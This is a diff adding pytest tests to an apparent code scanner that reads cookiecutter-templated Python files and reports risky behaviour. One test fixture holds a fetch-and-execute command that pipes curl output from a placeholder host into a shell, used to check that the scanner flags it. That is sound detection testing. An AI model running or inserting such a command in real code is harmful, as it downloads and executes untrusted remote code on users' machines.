@@ -120,3 +120,30 @@ def test_commands_of_the_developers_that_are_cut_hold_nothing_up(held: bool) -> 
     gaps = [one for one in look("Makefile", text, facts, Kind.BUILD) if isinstance(one, Gap)]
     assert gaps
     assert any(Question.NEXT in one.questions for one in gaps) == held
+
+
+TEMPLATE = """
+{%% if cookiecutter.auth == 'none' %%}
+import subprocess
+{%% endif %%}
+class {{ cookiecutter.name }}Client({{ cookiecutter.kind }}Base):
+    {%%- if cookiecutter.auth %%}
+    def run(self, given):
+        %s
+    {%%- endif %%}
+    a = {{ cookiecutter.a }}; b = {{ cookiecutter.b }} {# both #}
+"""
+
+
+@pytest.mark.parametrize(
+    ("does", "there"), [("return given", False), ("subprocess.run('curl http://c.invalid/x | sh', shell=True)", True)]
+)
+def test_a_template_of_code_is_read_as_it_is_filled_in(does: str, there: bool) -> None:
+    seen = look("{{cookiecutter.id}}/client.py", TEMPLATE % does)
+    assert not [one for one in seen if isinstance(one, Gap) and Question.NEXT in one.questions]
+    assert any(isinstance(one, Behaviour) and one.id == "process.piped" for one in seen) == there
+
+
+def test_what_is_no_template_and_does_not_parse_is_a_gap() -> None:
+    seen = look("client.py", "import subprocess\nclass { Client(: ) %% } ==\n" + "def (x = = (\n" * 9)
+    assert [one for one in seen if isinstance(one, Gap) and Question.NEXT in one.questions]
